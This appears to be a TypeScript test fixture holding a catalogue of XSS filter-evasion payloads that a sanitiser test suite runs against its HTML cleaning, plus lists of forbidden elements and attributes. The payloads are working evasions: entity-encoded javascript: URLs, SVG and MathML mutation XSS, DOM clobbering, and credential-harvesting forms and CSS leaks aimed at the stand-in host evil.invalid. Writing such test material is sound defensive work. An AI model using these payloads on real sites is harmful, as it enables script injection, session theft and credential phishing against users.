/**
 * Hostile server content for the hostile-content checks (tests/unit/hostile-content.test.ts runs each through
 * the sanitiser; tests/e2e/hostile-content.spec.ts puts them in every place the site shows server text or
 * HTML). The classes follow the public XSS filter-evasion lists (OWASP's cheat sheet, PortSwigger's XSS cheat
 * sheet, the DOMPurify mutation-XSS reports): event handlers, `javascript:` addresses hidden by entities and
 * whitespace, SVG and MathML namespace confusion, <base>, <meta refresh>, CSS, DOM clobbering, frames and
 * plugins, and parser tricks (template, noscript, comments, CDATA).
 *
 * Each payload sets `window.__xss` to its own id if any part of it ever runs, and every address it carries
 * names its id (on the host evil.invalid, which never resolves), so a survivor found in the page is put
 * down to the payload that brought it. Ids are two letters and two digits, matched as whole words.
 */

export interface Payload {
  id: string;
  html: string;
}

export interface PayloadClass {
  key: string;
  name: string;
  payloads: Payload[];
}

/** The host every hostile address points at: reserved (RFC 2606), it never resolves. */
export const EVIL_HOST = 'evil.invalid';

const run = (id: string) => `window.__xss='${id}'`;

type Template = (id: string, js: string) => string;

/**
 * Builds a class from templates given the id and the code it runs; ids are `<prefix><nn>`, with `_<tag>` after
 * them when a tag is given (each place of the e2e check gets its own, so whatever runs names where it came from).
 */
const cls = (key: string, name: string, templates: Template[]) => (tag: string): PayloadClass => ({
  key,
  name,
  payloads: templates.map((make, i) => {
    const id = `${key}${String(i + 1).padStart(2, '0')}${tag ? `_${tag}` : ''}`;
    return { id, html: make(id, run(id)) };
  }),
});

/** A payload id as it appears in the page: the id and, after an underscore, the place's tag. */
export const PAYLOAD_ID = /\b([a-z]{2}\d{2})(?:_([a-z]+))?\b/g;

/** `javascript:` with its letters as decimal and hexadecimal character references. */
const dec = (s: string) => [...s].map((c) => `&#${c.charCodeAt(0)};`).join('');
const hex = (s: string) => [...s].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('');

const CLASSES = [
  cls('ev', 'event handlers', [
    (id, js) => `<img src=x onerror="${js}" alt="${id}">`,
    (id, js) => `<img src="/__hostile/${id}.png" onerror="${js}">`,
    (_, js) => `<img src=x onerror=${js.replace(/ /g, '')}>`,
    (_, js) => `<img/src=x/onerror="${js}">`,
    (_, js) => `<img src=x ONERROR="${js}">`,
    (_, js) => `<img src=x onerror\n="${js}">`,
    (_, js) => `<img src="x\`onerror=${js}\`">`,
    (_, js) => `<body onload="${js}">`,
    (_, js) => `<p onmouseover="${js}">hover</p>`,
    (_, js) => `<div onclick="${js}">tap</div>`,
    (_, js) => `<a onfocus="${js}" autofocus tabindex=1 href="/m/home">focus</a>`,
    (_, js) => `<details open ontoggle="${js}"><summary>s</summary>d</details>`,
    (_, js) => `<video src=x onerror="${js}"></video>`,
    (_, js) => `<audio src=x onerror="${js}"></audio>`,
    (_, js) => `<video><source onerror="${js}"></video>`,
    (_, js) => `<input autofocus onfocus="${js}">`,
    (_, js) => `<select autofocus onfocus="${js}"></select>`,
    (_, js) => `<textarea autofocus onfocus="${js}"></textarea>`,
    (_, js) => `<marquee onstart="${js}">m</marquee>`,
    (_, js) => `<div style="animation-name:x" onanimationstart="${js}">a</div>`,
    (id) => `<img src=x onerror=&#119;&#105;&#110;&#100;&#111;&#119;.__xss='${id}'>`,
    (id, js) => `<img src=x data-id="${id}" onerror="eval(atob('${Buffer.from(js).toString('base64')}'))">`,
    (_, js) => `<keygen autofocus onfocus="${js}">`,
    (_, js) => `<object onerror="${js}"></object>`,
    (_, js) => `<table background="x" onerror="${js}"><tr><td>t</td></tr></table>`,
    (_, js) => `<img src=x onerror="${js}"//`,
  ]),
  cls('js', 'javascript: addresses (entities, whitespace, case)', [
    (_, js) => `<a href="javascript:${js}">j</a>`,
    (_, js) => `<a href="JaVaScRiPt:${js}">j</a>`,
    (_, js) => `<a href=" javascript:${js}">j</a>`,
    (_, js) => `<a href="jav\tascript:${js}">j</a>`,
    (_, js) => `<a href="jav&#x09;ascript:${js}">j</a>`,
    (_, js) => `<a href="jav&#x0A;ascript:${js}">j</a>`,
    (_, js) => `<a href="jav&#x0D;ascript:${js}">j</a>`,
    (_, js) => `<a href="&#x01;javascript:${js}">j</a>`,
    (_, js) => `<a href="${dec('javascript')}:${js}">j</a>`,
    (_, js) => `<a href="${hex('javascript')}&#x3a;${js}">j</a>`,
    (_, js) => `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${js}">j</a>`,
    (_, js) => `<a href="javascript&colon;${js}">j</a>`,
    (_, js) => `<a href="java&Tab;script:${js}">j</a>`,
    (_, js) => `<a href="java&NewLine;script:${js}">j</a>`,
    (_, js) => `<a href="javascript:/*--></title></style></textarea></script><svg/onload='${js}'>">j</a>`,
    (_, js) => `<a href="data:text/html,<script>${js}</script>">d</a>`,
    (id, js) => `<a data-id="${id}" href="data:text/html;base64,${Buffer.from(`<script>${js}</script>`).toString('base64')}">d</a>`,
    (_, js) => `<a href="vbscript:${js}">v</a>`,
    (_, js) => `<img src="javascript:${js}">`,
    (_, js) => `<img srcset="javascript:${js} 1x">`,
    (id) => `<a href="\\\\${EVIL_HOST}/${id}">unc</a>`,
    (id) => `<a href="//${EVIL_HOST}/${id}">protocol-relative</a>`,
    (id) => `<a href="http://${EVIL_HOST}/${id}">http</a>`,
    (id) => `<a href="/\t/${EVIL_HOST}/${id}">tab path</a>`,
    (id) => `<a href="https://site.test@${EVIL_HOST}/${id}" target="_self" rel="opener">credentials</a>`,
    (id) => `<a href="https://${EVIL_HOST}/${id}" target="_top" rel="opener">https, own target</a>`,
  ]),
  cls('sv', 'SVG', [
    (_, js) => `<svg onload="${js}">`,
    (_, js) => `<svg><script>${js}</script></svg>`,
    (_, js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
    (_, js) => `<svg><set onbegin="${js}" attributeName=x to=y>`,
    (_, js) => `<svg><a xlink:href="javascript:${js}"><text x=20 y=20>x</text></a></svg>`,
    (_, js) => `<svg><a><animate attributeName=href values="javascript:${js}"/><text x=20 y=20>x</text></a></svg>`,
    (_, js) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${js}'/></svg>#x"/></svg>`,
    (_, js) => `<svg><image href=x onerror="${js}"/></svg>`,
    (_, js) => `<svg><foreignObject><img src=x onerror="${js}"></foreignObject></svg>`,
    (_, js) => `<svg><style><img src=x onerror="${js}"></style></svg>`,
    (_, js) => `<svg></p><style><a id="</style><img src=x onerror=${js.replace(/ /g, '')}>">`,
    (_, js) => `<svg><p><style><img src=x onerror="${js}"></style></p></svg>`,
    (_, js) => `<svg><title><img src=x onerror="${js}"></title></svg>`,
    (_, js) => `<svg><desc><img src=x onerror="${js}"></desc></svg>`,
  ]),
  cls('mm', 'MathML and namespace mutation', [
    (_, js) => `<math><mtext><table><mglyph><style><img src=x onerror="${js}">`,
    (_, js) => `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror='${js}'>">`,
    (_, js) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${js}">`,
    (_, js) => `<math><maction actiontype="statusline" xlink:href="javascript:${js}">x</maction></math>`,
    (_, js) => `<math href="javascript:${js}">m</math>`,
    (_, js) => `<math><mi xlink:href="javascript:${js}">x</mi></math>`,
    (_, js) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${js}"></annotation-xml></math>`,
    (_, js) => `<math><mtext><table><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror='${js}'>">`,
    (_, js) => `<noscript><p title="</noscript><img src=x onerror=${js.replace(/ /g, '')}>">`,
    (_, js) => `<table><svg><p><style><img src=x onerror="${js}"></style></p></svg></table>`,
    (_, js) => `<select><template><style><img src=x onerror="${js}"></style></template></select>`,
    (_, js) => `<xmp><p title="</xmp><img src=x onerror=${js.replace(/ /g, '')}>">`,
  ]),
  cls('bs', '<base>', [
    (id) => `<base href="https://${EVIL_HOST}/${id}/">`,
    (_, js) => `<base href="javascript:${js}//">`,
    (id) => `<base target="_blank" href="//${EVIL_HOST}/${id}/">`,
    (id) => `<div><base href="http://${EVIL_HOST}/${id}/"><a href="rel">relative</a></div>`,
    (id) => `<svg><base href="https://${EVIL_HOST}/${id}/"></svg>`,
    (id) => `<head><base href="https://${EVIL_HOST}/${id}/"></head>`,
  ]),
  cls('mr', '<meta refresh>', [
    (_, js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
    (id) => `<meta http-equiv="refresh" content="0; url=https://${EVIL_HOST}/${id}">`,
    (id, js) => `<meta name="${id}" http-equiv="refresh" content="0;url=data:text/html;base64,${Buffer.from(`<script>${js}</script>`).toString('base64')}">`,
    (id) => `<META HTTP-EQUIV="Refresh" CONTENT="0;URL=//${EVIL_HOST}/${id}">`,
    (id) => `<meta http-equiv="Set-Cookie" content="${id}=1">`,
    (id) => `<meta http-equiv="Content-Security-Policy" content="default-src https://${EVIL_HOST}/${id}">`,
    (id) => `<meta name="referrer" content="unsafe-url" data-id="${id}">`,
    (id) => `<svg><meta http-equiv="refresh" content="0;url=https://${EVIL_HOST}/${id}"></svg>`,
  ]),
  cls('cs', 'CSS', [
    (id) => `<style>@import 'https://${EVIL_HOST}/${id}.css';</style>`,
    (id) => `<style>body{background:url("https://${EVIL_HOST}/${id}.png")}</style>`,
    (id) => `<p style="background-image:url(https://${EVIL_HOST}/${id}.png)">bg</p>`,
    (_, js) => `<p style="background:url(javascript:${js})">bg</p>`,
    (_, js) => `<p style="width:expression(${js})">expr</p>`,
    (id) => `<link rel="stylesheet" href="https://${EVIL_HOST}/${id}.css">`,
    (id) => `<link rel="import" href="https://${EVIL_HOST}/${id}.html">`,
    (id) => `<style>*{font-family:x;src:url(https://${EVIL_HOST}/${id}.woff)}</style>`,
    (id) => `<div style="position:fixed;inset:0;z-index:99999;background:#fff" data-id="${id}">overlay</div>`,
    (_, js) => `<style>@keyframes x{}</style><p style="animation-name:x" onanimationend="${js}">a</p>`,
    (id) => `<style>input[value^="a"]{background:url(https://${EVIL_HOST}/${id})}</style>`,
    (_, js) => `<p style="behavior:url(#default#time2)" onbegin="${js}">b</p>`,
  ]),
  cls('dc', 'DOM clobbering', [
    (id) => `<img name="__xss" data-id="${id}">`,
    (id) => `<a id="__xss" href="/${id}">a</a>`,
    (id) => `<form id="__xss" data-id="${id}"><input name="attributes"></form>`,
    (id) => `<img name="getElementById" data-id="${id}">`,
    (id) => `<img name="cookie" data-id="${id}"><img name="body" data-id="${id}">`,
    (id) => `<a id="location" href="https://${EVIL_HOST}/${id}">loc</a>`,
    (id) => `<form name="documentElement" data-id="${id}"></form>`,
    (id) => `<a id="defaultView" name="defaultView" href="/${id}">dv</a>`,
    (id) => `<iframe name="__xss" data-id="${id}"></iframe>`,
    (id) => `<a id="__xss"></a><a id="__xss" name="href" href="javascript:window.__xss='${id}'">b</a>`,
    (id) => `<embed name="__xss" src="/${id}">`,
    (id) => `<div id="root" data-id="${id}">root</div>`,
  ]),
  cls('fr', 'frames, plugins, forms', [
    (_, js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
    (_, js) => `<iframe srcdoc="&lt;img src=x onerror=&quot;parent.${js}&quot;&gt;"></iframe>`,
    (_, js) => `<iframe src="javascript:parent.${js}"></iframe>`,
    (id) => `<iframe src="https://${EVIL_HOST}/${id}"></iframe>`,
    (_, js) => `<object data="javascript:${js}"></object>`,
    (_, js) => `<object data="data:text/html,<script>parent.${js}</script>"></object>`,
    (_, js) => `<embed src="javascript:${js}">`,
    (id) => `<embed src="https://${EVIL_HOST}/${id}.swf">`,
    (_, js) => `<form action="javascript:${js}"><button>go</button></form>`,
    (_, js) => `<form><button formaction="javascript:${js}">go</button></form>`,
    (_, js) => `<form><input type="submit" formaction="javascript:${js}" value="go"></form>`,
    (_, js) => `<form><input type="image" src=x onerror="${js}"></form>`,
    (_, js) => `<isindex type=image src=x onerror="${js}">`,
    (id) => `<form action="https://${EVIL_HOST}/${id}" method="post"><input name="password" type="password"><button>log in</button></form>`,
    (_, js) => `<frameset onload="${js}"><frame src="javascript:${js}"></frameset>`,
    (_, js) => `<portal src="javascript:${js}"></portal>`,
  ]),
  cls('tp', 'parser tricks (script, template, comments)', [
    (_, js) => `<script>${js}</script>`,
    (_, js) => `<SCRIPT>${js}</SCRIPT>`,
    (_, js) => `<script src="data:text/javascript,${js}"></script>`,
    (id) => `<script src="https://${EVIL_HOST}/${id}.js"></script>`,
    (_, js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
    (_, js) => `<template><img src=x onerror="${js}"></template>`,
    (_, js) => `<template><script>${js}</script></template>`,
    (_, js) => `<noscript><img src=x onerror="${js}"></noscript>`,
    (_, js) => `<!--><img src=x onerror="${js}">-->`,
    (_, js) => `<!-- --!><img src=x onerror="${js}"> -->`,
    (_, js) => `<![CDATA[><img src=x onerror="${js}">]]>`,
    (_, js) => `<style><!--</style><img src=x onerror="${js}">--></style>`,
    (_, js) => `<title><img src=x onerror="${js}"></title>`,
    (_, js) => `<textarea><img src=x onerror="${js}"></textarea>`,
    (_, js) => `<plaintext><img src=x onerror="${js}">`,
    (_, js) => `"><img src=x onerror="${js}">`,
    (_, js) => `'><script>${js}</script>`,
    (_, js) => `</p><img src=x onerror="${js}"><p>`,
    (_, js) => `<img src=x onerror="${js}" <`,
    (_, js) => `<a href="/m/home" title="&quot; onmouseover=&quot;${js}">quoted</a>`,
  ]),
];

/** Every class, its ids tagged with `tag` when one is given. */
export const payloadClasses = (tag = ''): PayloadClass[] => CLASSES.map((make) => make(tag));

export const PAYLOAD_CLASSES = payloadClasses();

export const PAYLOADS: (Payload & { class: string })[] = PAYLOAD_CLASSES.flatMap((c) => c.payloads.map((p) => ({ ...p, class: c.key })));

/** Elements none of which may survive in rendered server content. */
export const FORBIDDEN_ELEMENTS = [
  'script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'base', 'meta', 'link', 'style', 'form', 'input',
  'button', 'select', 'textarea', 'svg', 'math', 'template', 'noscript', 'portal', 'video', 'audio', 'source', 'isindex',
  'keygen', 'marquee', 'body', 'head', 'title', 'xmp', 'plaintext', 'details',
];

/** Attributes that load or run something, or clobber a name, none of which may survive either. */
export const FORBIDDEN_ATTRIBUTES = ['style', 'srcdoc', 'srcset', 'action', 'formaction', 'background', 'poster', 'xlink:href', 'data', 'id', 'name', 'http-equiv', 'autofocus', 'tabindex'];
